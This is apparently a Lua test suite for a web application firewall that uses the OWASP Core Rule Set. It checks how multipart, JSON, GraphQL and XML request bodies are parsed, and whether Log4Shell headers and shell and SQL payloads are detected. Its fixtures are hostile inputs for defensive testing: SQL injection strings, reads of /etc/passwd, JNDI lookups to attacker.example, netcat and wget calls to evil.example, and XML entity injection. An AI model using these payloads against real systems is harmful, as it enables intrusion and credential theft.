    refused(post("multipart/form-data; boundary=B", parts .. '--B\r\nContent-Disposition: form-data; '
      .. 'name="zz"\r\n\r\n' .. SQLI .. "\r\n--B--\r\n"), c, "multipart")
    -- 1024 values pass
    local req = post("application/x-www-form-urlencoded", dummies(1024, "k%d=0", "&"))
    assert.is_false(T.phase(waf, "request", req, c))
  end)

  it("reads every spelling of a multipart file name, and the files' combined size", function()
    local function upload(disp, content)
      return post("multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"f\"; "
        .. disp .. "\r\nContent-Type: image/jpeg\r\n\r\n" .. (content or "hello") .. "\r\n--B--\r\n", "/up")
    end
    local function ids(req, c)
      T.phase(waf, "request", req, c)
      local out = {}
      for _, m in ipairs((req.ctx.waf or {}).matches or {}) do out[#out + 1] = m.id end
      return " " .. table.concat(out, " ") .. " "
    end
    assert.is_falsy(ids(upload('filename="beach.jpg"'), crs()):find(" 933110 ", 1, true))
    for _, disp in ipairs({ 'filename="shell.php"', 'FILENAME="shell.php"',
                            "filename=\"a.jpg\"; filename*=UTF-8''shell%2Ephp" }) do
      assert.is_truthy(ids(upload(disp), crs()):find(" 933110 ", 1, true), disp)
    end
    local small = T.conf(waf, { crs = CRS, crs_tx = { combined_file_sizes = 1000 } })
    assert.is_truthy(ids(upload('filename="a.jpg"', ("x"):rep(2000)), small):find(" 920410 ", 1, true))
    assert.is_falsy(ids(upload('filename="a.jpg"', ("x"):rep(500)), small):find(" 920410 ", 1, true))
  end)

  it("keeps no memory per request for long argument names (JSON paths under a long key)", function()
    local c = crs()
    local function once(i) -- (a key of its own: the same names again would be the same strings)
      local req = post("application/json", '{"' .. ("A"):rep(20000) .. i .. '":[' .. ("0,"):rep(999) .. "0]}")
      T.phase(waf, "request", req, c)
    end
    once(0)
    collectgarbage("collect")
    local kb = collectgarbage("count")
    for i = 1, 3 do once(i) end
    collectgarbage("collect")
    -- (each request's 1000 names of 20 KB, kept with their lower case, were 40 MB)
    local grown = collectgarbage("count") - kb
    assert.is_true(grown < 8192, grown .. " KB")
  end)

  it("refuses JSON nested deeper than 64; reads GraphQL only at the body's root", function()
    local c = crs()
    local req = post("application/json", '{"a":' .. ("["):rep(70) .. '"' .. SQLI .. '"' .. ("]"):rep(70) .. "}")
    refused(req, c, "deep")
    for _, key in ipairs({ "", "x" }) do
      req = post("application/json", '{"' .. key .. '":{"query":"query { user(id: ' .. SQLI .. ') { id } }"}}')
      assert.is_true(T.phase(waf, "request", req, c), "key " .. key)
    end
    -- at the root, the document's syntax is not data
    req = post("application/json", '{"query":"query { user(id: 1) { id name } }"}')
    assert.is_false(T.phase(waf, "request", req, c))
  end)

  it("refuses JSON with a NUL byte (cjson reads no further: what followed went uninspected)", function()
    local c = crs()
    refused(post("application/json", '{"a":1}\0{"q":"' .. SQLI .. '"}'), c, "body")
    -- in an argument: the whole value inspected (its leaves were f.a alone: only 920270 on
    -- REQUEST_URI saw the NUL, nothing the attack)
    local req = T.request({ uri = "/?f=%7B%22a%22%3A1%7D%00%7B%22q%22%3A%22" .. SQLI:gsub(" ", "+")
      .. "%22%7D", headers = headers() })
    assert.is_true(T.phase(waf, "request", req, c))
    local seen = {}
    for _, m in ipairs(req.ctx.waf.matches) do seen[m.id .. " " .. m.var] = true end
    assert.is_true(seen["942100 ARGS:f"])
  end)

  it("reads a batch of GraphQL requests (an array at the root, as Apollo sends) as each one", function()
    local c = crs()
    local function op(name, id)
      return '{"operationName":"' .. name .. '","query":"query ' .. name .. '($id: ID!) { product(id: $id) '
        .. '{ id name price { amount currency } reviews(first: 5) { edges { node { rating text } } } } }",'
        .. '"variables":{"id":"' .. id .. '"}}'
    end
    -- the documents' syntax is not data (read as a value, 932100 took it for a shell command)
    local req = post("application/json", "[" .. op("A", "12") .. "," .. op("B", "13") .. "]")
    assert.is_false(T.phase(waf, "request", req, c))
    -- their variables are
    req = post("application/json", "[" .. op("A", "12") .. "," .. op("B", SQLI) .. "]")
    assert.is_true(T.phase(waf, "request", req, c))
    local vars = {}
    for _, m in ipairs(req.ctx.waf.matches) do vars[#vars + 1] = m.var end
    assert.is_truthy(table.concat(vars, " "):find("ARGS:2.variables.id", 1, true))
  end)
end)

describe("GraphQL string escapes and XML bodies (CRS)", function()
  before_each(function() T.reset() end)
  local conf = {}
  local function crs(pl)
    -- (paranoia 2 through PCRE2 alone: the same verdicts, no second Hyperscan compile)
    conf[pl] = conf[pl] or T.conf(waf, { crs = CRS, paranoia = pl, hyperscan = pl == 1 })
    return conf[pl]
  end
  local function post(body)
    return T.request({ method = "POST", uri = "/graphql", body = body, headers = headers({
      ["Content-Type"] = "application/json", ["Content-Length"] = tostring(#body) }) })
  end

  it("inspects a string literal decoded: an escaped quote or slash is refused as the plain one", function()
    local sqli = [[{"query":"{ user(name: \"x\\u0027 OR \\u00271\\u0027=\\u00271\") { id } }"}]]
    local shell = [[{"query":"{ user(name: \"\\u003b cat \\u002fetc\\u002fpasswd\") { id } }"}]]
    local cases = {
      { sqli, "ARGS:query.1", 942100 }, { shell, "ARGS:query.1", 932100 },
      { "[" .. sqli .. "," .. sqli .. "]", "ARGS:1.query.1", 942100 },
      -- no GraphQL document, though it starts like one: inspected whole (it has no literals)
      { [[{"query":"{ 1' UNION SELECT password FROM users WHERE 1=1 -- }"}]], "ARGS:query", 942100 },
      -- a """ in a comment opened a block string: the literal after it went in undecoded
      { sqli:gsub('^{"query":"', '{"query":"# \\"\\"\\"\\n'), "ARGS:query.1", 942100 },
    }
    for _, pl in ipairs({ 1, 2 }) do
      for _, case in ipairs(cases) do
        local req = post(case[1])
        assert.is_true(T.phase(waf, "request", req, crs(pl)), case[1])
        local seen = {}
        for _, m in ipairs(req.ctx.waf.matches) do seen[m.id .. " " .. m.var] = true end
        assert.is_true(seen[case[3] .. " " .. case[2]], case[1])
      end
    end
  end)

  local function enc(v)
    return (v:gsub("[^%w%-_.~]", function(ch) return string.format("%%%02X", ch:byte()) end))
  end
  local function get(query, variables)
    return T.request({ uri = "/graphql?query=" .. enc(query) .. "&variables=" .. enc(variables),
      headers = headers({ Accept = "application/json" }) })
  end

  it("reads a GraphQL request sent by GET as the one POSTed: literals, variables as JSON", function()
    -- ordinary: read as text, its punctuation made 942430 (and more) refuse it at PL2
    for _, q in ipairs({ 'subscription OnOrder { orderUpdated(shop: "main") { id status updatedAt } }',
      "query GetProduct($id: ID!) { product(id: $id) { id name price { amount currency } } }" }) do
      local req = get(q, '{"id":"12","term":"shoes"}')
      assert.is_false(T.phase(waf, "request", req, crs(2)), q)
      assert.is_nil((req.ctx.waf or {}).matches and req.ctx.waf.matches[1], q)
    end
    local cases = {
      -- an attack in a literal, or in a variable, is refused as the literal (the value) it is
      { '{ user(name: "x\\u0027 OR \\u00271\\u0027=\\u00271") { id } }', "{}", "ARGS:query.1", 942100 },
      { "query($n: String) { user(name: $n) { id } }", '{"n":"; cat /etc/passwd"}', "ARGS:variables.n", 932100 },
      -- no GraphQL document (though it starts like one): inspected whole, as before
      { "{ 1' UNION SELECT password FROM users WHERE 1=1 -- }", "{}", "ARGS:query", 942100 },
      { "query { user(id: 1 UNION SELECT password FROM users) { id } }", "{}", "ARGS:query", 942100 },
    }
    for _, pl in ipairs({ 1, 2 }) do
      for _, case in ipairs(cases) do
        local req = get(case[1], case[2])
        assert.is_true(T.phase(waf, "request", req, crs(pl)), case[1])
        local seen = {}
        for _, m in ipairs(req.ctx.waf.matches) do seen[m.id .. " " .. m.var] = true end
        assert.is_true(seen[case[4] .. " " .. case[3]], case[1])
      end
    end
  end)

  local function xml(body, ctype)
    return T.request({ method = "POST", uri = "/soap", body = body, headers = headers({
      ["Content-Type"] = ctype or "application/xml", ["Content-Length"] = tostring(#body) }) })
  end

  it("reads an XML body as ModSecurity's XML processor: XML:/* and XML://@*", function()
    local cases = {
      { "<a>1' UNION SELECT password FROM users--</a>", "XML:/*", 942100 },
      { '<?xml version="1.0"?><r><q><![CDATA[<script>alert(1)</script>]]></q></r>', "XML:/*", 941110 },
      { "<r><f>&#59; cat /etc/passwd</f></r>", "XML:/*", 932100 },
      -- (944's rules read the attributes, and REQUEST_BODY too: either may be the one named)
      { '<r x="java.lang.Runtime.getRuntime().exec(id)"/>', "", 944100 },
    }
    for _, pl in ipairs({ 1, 2 }) do
      for _, case in ipairs(cases) do
        local req = xml(case[1], "text/xml")
        assert.is_true(T.phase(waf, "request", req, crs(pl)), case[1])
        local seen = {}
        for _, m in ipairs(req.ctx.waf.matches) do seen[#seen + 1] = m.id .. " " .. m.var end
        seen = " " .. table.concat(seen, " ") .. " "
        assert.truthy(seen:find(" " .. case[3] .. " " .. case[2], 1, true), pl .. ": " .. case[1] .. ":" .. seen)
      end
    end
    -- an ordinary SOAP call passes
    local soap = '<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap='
      .. '"http://www.w3.org/2003/05/soap-envelope"><soap:Body><m:GetPrice xmlns:m="https://'
      .. 'shop.example.com/prices"><m:Item>O\'Neil &amp; Sons: "Apples", 2 kg</m:Item>'
      .. "</m:GetPrice></soap:Body></soap:Envelope>"
    local req = xml(soap, "application/soap+xml; charset=utf-8")
    assert.is_false(T.phase(waf, "request", req, crs(1)))
  end)

  it("refuses malformed XML as a body error, and logs why", function()
    local req = xml("<a>1' UNION SELECT password FROM users--")
    assert.is_true(T.phase(waf, "request", req, crs(1)))
    local ids = {}
    for _, m in ipairs(req.ctx.waf.matches) do ids[#ids + 1] = m.id end
    assert.same({ 1009 }, ids)
    local log = T.logs[#T.logs].message
    assert.matches('1009 &body_error "1" (XML: <a> not closed at byte 41)', log, 1, true)
    -- an external DTD is never read: a reference to what it may declare stays as written
    req = xml('<!DOCTYPE r SYSTEM "http://example.com/r.dtd"><r>&x;</r>')
    assert.is_false(T.phase(waf, "request", req, crs(1)))
    -- an internal subset (its entities would be the application's text): a body error
    req = xml("<!DOCTYPE r [<!ENTITY x \"1' UNION SELECT password FROM users--\">]><r>&x;</r>")
    assert.is_true(T.phase(waf, "request", req, crs(1)))
    assert.matches("(XML: a DOCTYPE with an internal subset at byte 1)", T.logs[#T.logs].message, 1, true)
  end)
end)

describe("Log4Shell in headers beside CRS 3.3.4 (docs/plugins/waf.md, \"Beside CRS\")", function()
  before_each(function() T.reset() end)

  it("passes CRS alone; the bundled java.lua or an inline Lua rule beside it refuses it", function()
    local function ua_lookup(c)
      local req = T.request({ uri = "/", headers = headers({ ["User-Agent"] = "${jndi:ldap://attacker.example/a}" }) })
      return T.phase(waf, "request", req, c), req
    end
    -- (PCRE2 alone: the same verdicts, no Hyperscan compile per config)
    for _, pl in ipairs({ 1, 2 }) do
      assert.is_false(ua_lookup(T.conf(waf, { crs = CRS, paranoia = pl, hyperscan = false })), "PL" .. pl)
    end
    local refused, req = ua_lookup(T.conf(waf, { crs = CRS, hyperscan = false,
      rule_files = { "plugins/waf/rules/java.lua" } }))
    assert.is_true(refused)
    assert.are.same({ 1601, "headers:user-agent" }, { req.ctx.waf.matches[1].id, req.ctx.waf.matches[1].var })
    refused, req = ua_lookup(T.conf(waf, { crs = CRS, hyperscan = false, rules = { {
      id = 100001, msg = "Log4Shell lookup in a header", severity = "critical",
      targets = { "headers" }, transforms = { "urldecode", "lowercase" }, rx = [[\$\{\s*jndi\s*:]] } } }))
    assert.is_true(refused)
    assert.are.equal(100001, req.ctx.waf.matches[1].id)
    assert.matches("waf: blocked GET / (score 5): 100001 headers:user-agent", T.logs[#T.logs].message, 1, true)
  end)
end)

describe("confirmers (crs_confirm)", function()
  local confirm = require "luaproxy.waf.confirm"

  it("shell: command lines stay matches, prose with ; | & does not", function()
    for _, v in ipairs({ "; cat /etc/passwd", "|id", "a;id", "x && whoami", "$(sleep 5)",
      "%24%28sleep%205%29", "`uname -a`", "${jndi:ldap://evil.example/a}", "${@print(md5(1))}",
      "; c'a't /etc/passwd", ";c\\at${IFS}/etc/shadow", "{cat,/etc/passwd}", "; sleep 10",
      "| nc evil.example 4444", "1; /bin/sh -i", "; ls -la", "ping.exe -n 3 10.0.0.1",
      "test\nwget http://evil.example/x.sh", "; cat</etc/passwd" }) do
      assert.is_true(confirm.shell(v), v)
    end
    for _, v in ipairs({ "The union was a great decision; select members will leave",
      "ls 430 parts", "Tom & Jerry; cat lovers welcome", "read more | share", "price: $(5 for 2)",
      "1 of 2; sleep well", "echo chamber; more news", "in the shop; cat food & more",
      "office work | id card renewal", "ls", "Thanks; see you soon" }) do
      assert.is_false(confirm.shell(v), v)
    end
  end)

  it("sql: SQL's structure, a quote breaking into code, or a command line", function()
    for _, v in ipairs({ "1' OR '1'='1", "1 UNION SELECT password FROM users",
      "'-alert(1)-'", "`id`", "1%27%20OR%20%271%27%3D%271" }) do
      assert.is_true(confirm.sql(v, v), v)
    end
    for _, v in ipairs({ "The union of our two teams was a great decision; select members",
      "Select a size from the menu", "order #88 & #91: both late", "rate it 4 or 5 stars; ",
      "s3cr3t;--x", "Don't select the \"express\" option if you're ordering" }) do
      assert.is_false(confirm.sql(v, v), v)
    end
  end)

  it("filename: an inner apostrophe is no quote; the rule's other characters still count", function()
    local rx = function(x) return x:find("['\"=]") ~= nil end
    assert.is_false(confirm.filename("Jane O'Neil.pdf", "Jane O'Neil.pdf", rx))
    for _, v in ipairs({ "'x.php", "x.php'", "a\"b.php", "a=b.php", "O'Neil\".php" }) do
      assert.is_true(confirm.filename(v, v, function(x) return rx(x) end), v)
    end
  end)

  it("runs on CRS by default: prose passes, attacks are refused; crs_confirm = {} is CRS raw", function()
    T.reset()
    local function post(c, text)
      local body = "comment=" .. text:gsub("[^%w]", function(ch) return string.format("%%%02X", ch:byte()) end)
      local req = T.request({ method = "POST", uri = "/products/1/reviews", body = body,
        headers = headers({ ["Content-Type"] = "application/x-www-form-urlencoded",
                            ["Content-Length"] = tostring(#body) }) })
      return T.phase(waf, "request", req, c), req
    end
    local prose = "The union of our two teams was a great decision; select members will leave early."
    local on = T.conf(waf, { crs = CRS, hyperscan = false })
    local raw = T.conf(waf, { crs = CRS, hyperscan = false, crs_confirm = {} })
    local blocked, req = post(on, prose)
    assert.is_false(blocked)
    assert.truthy(req.ctx.waf.unconfirmed[932115])
    assert.is_true((post(raw, prose)))
    for _, attack in ipairs({ "x; cat /etc/passwd", "$(sleep 5)", "1' OR '1'='1" }) do
      assert.is_true((post(on, attack)), attack)
    end
    local q = T.request({ uri = "/search?q=ls+430+parts", headers = headers() })
    assert.is_false(T.phase(waf, "request", q, on))
    q = T.request({ uri = "/search?q=ls+430+parts", headers = headers() })
    assert.is_true(T.phase(waf, "request", q, raw))
    local ok = pcall(T.conf, waf, { crs = CRS, hyperscan = false, crs_confirm = { "nope" } })
    assert.is_false(ok)
  end)
end)
